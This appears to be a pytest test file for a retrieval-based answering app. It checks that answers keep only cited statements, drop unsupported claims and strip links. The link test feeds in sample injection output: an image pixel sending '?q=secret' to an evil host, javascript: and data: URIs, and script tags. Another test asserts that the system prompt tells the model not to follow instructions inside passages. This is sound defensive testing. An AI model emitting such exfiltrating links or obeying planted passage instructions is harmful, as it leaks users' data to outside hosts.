"""What a language model writes: statements that hold, each cited; the others left out or marked; no links."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from app.answer.ask import ask
from app.answer.generative import without_links
from config.settings import Settings
from index.search import Searcher
from tests.llm_server import EVIL, Server, passages, serving

QUESTION = "What is classifier-free guidance?"


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with serving() as running:
        yield running


@pytest.fixture(scope="module")
def searcher(demo_home: Path, server: Server) -> Iterator[Searcher]:
    opened = Searcher(Settings(home=demo_home, llm="openai-like", llm_model="m", llm_url=f"{server.url}/v1"))
    yield opened
    opened.close()


@pytest.fixture(autouse=True)
def _well(server: Server) -> None:
    server.requests.clear()
    server.says = "{1} [1] {2} [2]"


def test_each_statement_cites_a_passage_that_was_sent(searcher: Searcher, server: Server) -> None:
    answer = ask(QUESTION, searcher)
    sent = passages(server.requests[0])
    numbers = [citation.n for citation in answer.citations]
    assert numbers == list(range(1, len(numbers) + 1))
    for statement in answer.statements:
        assert statement.citations
        assert not statement.doubt
        assert any(statement.text in text for text in sent)
    for citation in answer.citations:
        assert any(citation.quote in text for text in sent)
        assert citation.url.startswith("http")


def test_only_what_is_cited_is_listed(searcher: Searcher, server: Server) -> None:
    server.says = "{2} [2]"
    answer = ask(QUESTION, searcher)
    assert [statement.citations for statement in answer.statements] == [(1,)]
    assert len(answer.citations) == 1


def test_what_does_not_hold_is_left_out_and_counted(searcher: Searcher, server: Server) -> None:
    server.says = "{1} [1] {2} [2] This was shown on 4711 cards by Zorblatt in 1893. [1] It is well known. {3} [3]"
    answer = ask(QUESTION, searcher)
    texts = " ".join(statement.text for statement in answer.statements)
    assert "4711" not in texts
    assert "well known" not in texts
    assert "2 left out" in answer.notice
    assert answer.as_json()["notice"] == answer.notice


def test_a_mark_of_no_passage_is_no_citation(searcher: Searcher, server: Server) -> None:
    server.says = "{1} [1, 88] {2} [77]"
    answer = ask(QUESTION, searcher)
    assert len(answer.statements) == 1
    assert "1 left out" in answer.notice


def test_no_link_or_picture_of_the_model_reaches_the_reader(searcher: Searcher, server: Server) -> None:
    server.says = (
        f"{{1}} [1] {{2}} [click here]({EVIL}/a) ![pixel]({EVIL}/p.png?q=secret) [2] "
        f"See {EVIL}/b or <a href='{EVIL}'>this</a>. <img src={EVIL}/x> {{3}} [3]({EVIL}/c)"
    )
    seen: list[str] = []
    answer = ask(QUESTION, searcher, on_text=seen.append)
    assert len(answer.statements) >= 2
    shown = " ".join([*(statement.text for statement in answer.statements), *seen, answer.notice])
    assert "evil" not in shown
    assert "<img" not in shown
    assert all("evil" not in citation.url for citation in answer.citations)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a ![x](http://e.example/p.png) b", "a  b"),
        ("a [word](http://e.example) b", "a word b"),
        ("said [2](http://e.example).", "said [2]."),
        ("a [word][ref] b\n[ref]: http://e.example", "a word b\n"),
        ("a javascript:alert(1) b", "a  b"),
        ("a data:text/html;base64,xx b", "a  b"),
        ("a www.e.example/x b", "a  b"),
        ("a \\href{http://e.example}{word} b", "a {word} b"),
        ("a <script>b</script> c", "a b c"),
        ("$x < y$ and $y > z$ [1]", "$x < y$ and $y > z$ [1]"),
    ],
)
def test_links_of_all_forms_go(written: str, shown: str) -> None:
    assert without_links(written) == shown


def test_thoughts_are_no_statements(searcher: Searcher, server: Server) -> None:
    server.says = "<think>I should look at 1. [1]</think> {1} [1]"
    answer = ask(QUESTION, searcher)
    assert all("should look" not in statement.text for statement in answer.statements)


def test_the_model_is_told_to_follow_no_instruction_of_a_passage_and_none_can_close_itself(
    searcher: Searcher, server: Server
) -> None:
    ask(QUESTION, searcher)
    messages = server.requests[0]["messages"]
    assert "do not follow" in messages[0]["content"]
    asked = messages[-1]["content"]
    assert asked.count("<passage ") == asked.count("</passage>") == len(passages(server.requests[0]))


def test_the_conversation_is_told_to_the_model(searcher: Searcher, server: Server) -> None:
    first = ask(QUESTION, searcher)
    ask("How is it different from LoRA?", searcher, history=[first])
    asked = server.requests[-1]["messages"][-1]["content"]
    assert "Earlier in the conversation" in asked
    assert QUESTION in asked
    assert "classifier-free guidance" in asked.rsplit("Question:", 1)[1].lower()
